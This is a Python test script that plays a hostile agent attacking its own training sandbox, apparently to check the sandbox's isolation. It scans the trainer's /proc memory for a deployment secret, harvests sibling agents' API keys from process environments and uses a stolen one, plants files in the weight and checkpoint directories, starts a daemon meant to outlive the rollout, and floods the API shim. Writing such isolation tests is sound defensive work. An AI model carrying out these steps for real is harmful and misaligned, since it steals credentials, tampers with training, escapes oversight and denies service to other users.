"""An agent that attacks the run it is trained in (F1–F6 of issue #62), started like any agent, through
`setup.sandbox`; it writes what each attack got to `report.json` in its working directory.

Standard library only. What it is told (as a real attacker would find out): the trainer's pid, the deployment's URL
and secret (as if lifted), a sibling agent's session key, and the run's paths.
"""

import http.client
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
from urllib.parse import urlsplit

env = os.environ
report = {"uid": os.getuid(), "caps": next(line.split()[1] for line in open("/proc/self/status")
                                            if line.startswith("CapEff"))}


def attempt(name, action):
    try:
        report[name] = {"ok": True, "got": action()}
    except Exception as e:  # noqa: BLE001 - every failure is the attack's outcome
        report[name] = {"ok": False, "error": f"{type(e).__name__}: {e}"}


def post(url, key, path, body, timeout=20):
    parts = urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=timeout)
    conn.request("POST", path, body=body, headers={"Authorization": f"Bearer {key}", "x-api-key": key,
                                                   "Content-Type": "application/json",
                                                   "anthropic-version": "2023-06-01"})
    response = conn.getresponse()
    data = response.read()
    conn.close()
    return response.status, data[:300].decode(errors="replace")


# F1: the trainer's memory, environment and command line; the deployment with its lifted secret.
trainer = env["TRAINER_PID"]
secret = env["DEPLOYMENT_KEY"].encode()


def scan_memory():
    found = 0
    with open(f"/proc/{trainer}/maps") as maps, open(f"/proc/{trainer}/mem", "rb", 0) as mem:
        for line in maps:
            start, end = (int(x, 16) for x in line.split()[0].split("-"))
            try:
                mem.seek(start)
                found += mem.read(min(end - start, 1 << 26)).count(secret)
            except OSError:
                continue
    return found


attempt("f1_trainer_mem", scan_memory)
attempt("f1_trainer_environ", lambda: len(open(f"/proc/{trainer}/environ", "rb").read()))
attempt("f1_trainer_signal", lambda: os.kill(int(trainer), 0))
attempt("f1_deployment", lambda: post(env["DEPLOYMENT_URL"], env["DEPLOYMENT_KEY"], "/v1/completions",
                                      json.dumps({"prompt": [1, 2], "max_tokens": 1}), timeout=5))
attempt("f1_processes", lambda: sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))


# F2: other agents' keys, from their environments; a sibling's key presented to the shim.
def foreign_keys():
    keys = set()
    for pid in set(filter(str.isdigit, os.listdir("/proc"))) - {str(os.getpid())}:  # its own holds STOLEN_KEY
        try:
            keys |= set(re.findall(rb"shim-[0-9a-f]{32}", open(f"/proc/{pid}/environ", "rb").read()))
        except OSError:
            continue
    return sorted(k.decode() for k in keys)


attempt("f2_foreign_keys", foreign_keys)
message = json.dumps({"model": "m", "max_tokens": 4, "messages": [{"role": "user", "content": "hi"}]})
attempt("f2_stolen_key", lambda: post(env["ANTHROPIC_BASE_URL"], env["STOLEN_KEY"], "/v1/messages", message))
attempt("f2_own_key", lambda: post(env["ANTHROPIC_BASE_URL"], env["ANTHROPIC_API_KEY"], "/v1/messages/count_tokens",
                                   message))


# F3, F4: the weight directory, the checkpoints, the run key, the dataset.
def write_into(directory):
    def action():
        with open(os.path.join(directory, "planted"), "w") as f:
            f.write("x")
        return "written"
    return action


def listing(path):
    return lambda: sorted(os.listdir(path)) if os.path.isdir(path) else open(path).read()[:100]


attempt("f3_write_weights", write_into(env["WEIGHT_DIR"]))
attempt("f3_list_weights", listing(env["WEIGHT_DIR"]))
attempt("f4_write_checkpoints", write_into(env["LOG_PATH"]))
attempt("f4_list_run", listing(env["LOG_PATH"]))
attempt("f4_read_dataset", listing(env["DATASET"]))

# F5: a daemon of its own session, meant to outlive the rollout.
subprocess.Popen(["sleep", "600", env["DAEMON_MARK"]], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
report["f5_daemon_started"] = True


# F6: eight 7.6 MiB bodies of 240,000 one-letter text blocks at once, on its own key; then a connection flood.
def big_bodies():
    body = json.dumps({"model": "m", "max_tokens": 4, "messages": [
        {"role": "user", "content": [{"type": "text", "text": "abc"}] * 240_000}]})
    statuses = []

    def one(path):
        statuses.append(post(env["ANTHROPIC_BASE_URL"], env["ANTHROPIC_API_KEY"], path, body, timeout=120)[0])

    threads = [threading.Thread(target=one, args=("/v1/messages" if i % 2 else "/v1/messages/count_tokens",))
               for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return {"bytes": len(body), "statuses": sorted(statuses)}


attempt("f6_big_bodies", big_bodies)


def flood():
    parts = urlsplit(env["ANTHROPIC_BASE_URL"])
    held = []
    for _ in range(200):
        s = socket.create_connection((parts.hostname, parts.port), timeout=5)
        held.append(s)
    time.sleep(3.0)
    alive = 0
    for s in held:  # a connection the shim refused is closed at once: reading it gives EOF
        s.setblocking(False)
        try:
            alive += s.recv(1) != b""
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
        s.close()
    return alive


attempt("f6_connections_held", flood)

with open("report.json", "w") as f:
    json.dump(report, f)
sys.stdout.flush()
signal.pause() if env.get("LINGER") else None
